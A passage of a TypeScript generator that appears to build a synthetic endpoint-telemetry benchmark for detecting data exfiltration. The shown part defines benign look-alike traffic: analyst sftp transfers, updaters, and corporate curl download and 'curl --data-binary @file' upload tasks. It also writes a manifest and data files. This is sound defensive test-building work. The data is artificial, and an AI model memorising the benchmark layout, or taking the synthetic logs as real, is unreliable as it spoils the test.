      destinations: ['s3.eu-west-1.amazonaws.com', 'artifacts.corp.example', '192.0.2.40', 'repo.maven.apache.org', 'registry.npmjs.org', 'github.com'], schedule: 'several times a day plus a nightly build at 02:00', seedLegs: ['network-volume'],
    },
    {
      class: 'FP4', description: 'Security analyst sec.analyst on SEC-01 copying forensic images to the evidence server 10.20.0.5 with pscp.exe and sftp.exe (Windows OpenSSH, ssh.exe child)',
      devices: only(['SEC-01']), accounts: ['sec.analyst'], processes: ['pscp.exe', 'sftp.exe', 'ssh.exe'],
      destinations: ['10.20.0.5'], schedule: 'daily, weekends included (incident in progress)', seedLegs: ['tool-start'],
    },
    {
      class: 'FP5', description: 'Updaters: GoogleUpdate.exe (hourly), MicrosoftEdgeUpdate.exe, OneDrive.exe, MpCmdRun.exe, Windows Update; the corporate catalogue task "curl.exe -fsSL --ssl-no-revoke -o ... https://packages.corp.example/..." as SYSTEM twice a day on every Windows device; on Linux apt-get with an inventory hook that POSTs with "curl --data-binary @file" and a daily "curl -fsSL -o ... https://packages.corp.example/..." download',
      devices: [...winNames, ...lxNames].filter((n) => names.has(n)), accounts: ['system', 'root', '_apt'],
      processes: ['GoogleUpdate.exe', 'MicrosoftEdgeUpdate.exe', 'OneDrive.exe', 'OneDriveStandaloneUpdater.exe', 'MpCmdRun.exe', 'curl.exe', 'apt-get', 'http', 'curl', 'python3.10', 'platform-python3.6'],
      destinations: ['packages.corp.example', '192.0.2.41', 'update.googleapis.com', 'msedge.api.cdp.microsoft.com', 'corpexample-my.sharepoint.com', 'definitionupdates.microsoft.com', 'archive.ubuntu.com', 'security.ubuntu.com', 'cdn.redhat.com'],
      schedule: 'hourly to twice a day', seedLegs: ['tool-start'],
    },
  ];
  const captureMs = o.start / 1000 + o.days * 86_400_000;
  return {
    captureTime: new Date(captureMs).toISOString().replace('.000Z', 'Z'),
    generator: 'bench/generate-sample.ts (node dist/bench/generate-sample.js)',
    seed: o.seedValue,
    start: isoSeconds(o.start),
    days: o.days,
    timezone: 'UTC (business hours 08:00-18:00 UTC; 2026-11-01 is a Sunday, 2026-11-07 a Saturday)',
    tables: tableCounts,
    devices: o.defs.map((d) => ({
      name: d.name, deviceId: deviceIdOf(d.name), os: d.os, role: d.role, ip: d.ip,
      users: d.user ? [d.user.name] : d.role === 'build' ? ['svc_ci', 'root'] : d.role === 'backup' ? ['svc_backup', 'root'] : d.role === 'database' ? ['postgres', 'root'] : ['www-data', 'root'],
    })),
    incidents,
    benign: benign.filter((x) => x.devices.length > 0),
    notes: [
      'Columns follow the Defender advanced-hunting schema; SentBytes/ReceivedBytes on DeviceNetworkEvents are exfilwatch extension columns (bytes per connection, on ConnectionSuccess, *AggregatedReport and InboundConnectionAccepted rows).',
      'ReportId is a per-device counter; several devices have 18-digit ReportIds past 2^53, written as exact JSON numbers.',
      'ConnectionSuccessAggregatedReport rows stand for AdditionalFields.uniqueEventsAggregated connections (DNS, Defender sensor, OneDrive, Teams, Outlook); SslConnectionInspected rows have no InitiatingProcess fields.',
      'InitiatingProcessFolderPath is lower case on Windows DeviceNetworkEvents rows, as the sensor reports it.',
      'The incidents fall on 2026-11-02..06; the seed rule looks back 24h from captureTime, so it sees 2026-11-07 only: the benign classes, not the incidents.',
    ],
  };
}

/** Writes the sample: one gzipped JSON-lines file per table, sorted by Timestamp, and manifest.json. */
export function writeSample(outDir: string, options: FleetOptions = {}): Manifest {
  const lines: Record<string, { ts: string; line: string }[]> = {};
  for (const { table, record } of generateFleet(options)) {
    (lines[table] ??= []).push({ ts: record.Timestamp as string, line: recordToJson(record) });
  }
  mkdirSync(outDir, { recursive: true });
  const counts: Record<string, number> = {};
  for (const table of SAMPLE_TABLES) {
    const rows = lines[table] ?? [];
    rows.sort((a, b) => (a.ts < b.ts ? -1 : a.ts > b.ts ? 1 : 0));
    counts[table] = rows.length;
    const text = rows.map((r) => r.line).join('\n') + '\n';
    writeFileSync(path.join(outDir, `${table}.jsonl.gz`), gzipSync(text, { level: 9 }));
  }
  const manifest = fleetManifest(options, counts);
  writeFileSync(path.join(outDir, 'manifest.json'), JSON.stringify(manifest, null, 2) + '\n');
  return manifest;
}

function main(): void {
  const here = path.dirname(fileURLToPath(import.meta.url));
  const root = path.resolve(here, here.split(path.sep).includes('dist') ? '../..' : '..');
  const out = process.argv[2] ?? path.join(root, 'src/content/t1048.002/sample');
  const m = writeSample(out);
  process.stdout.write(`wrote ${out}: ${Object.entries(m.tables).map(([t, n]) => `${t} ${n}`).join(', ')}\n`);
}

if (process.argv[1] && import.meta.url === pathToFileURL(path.resolve(process.argv[1])).href) main();
